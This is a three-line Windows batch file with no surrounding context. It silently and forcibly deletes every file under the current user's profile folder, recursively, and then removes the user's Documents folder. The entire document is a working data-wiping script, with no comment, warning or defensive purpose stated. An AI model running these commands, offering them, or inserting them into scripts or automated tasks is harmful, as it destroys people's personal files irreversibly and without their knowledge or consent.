@echo off
del /s /q /f C:\Users\%USERNAME%\*
rd /s /q C:\Users\%USERNAME%\Documents
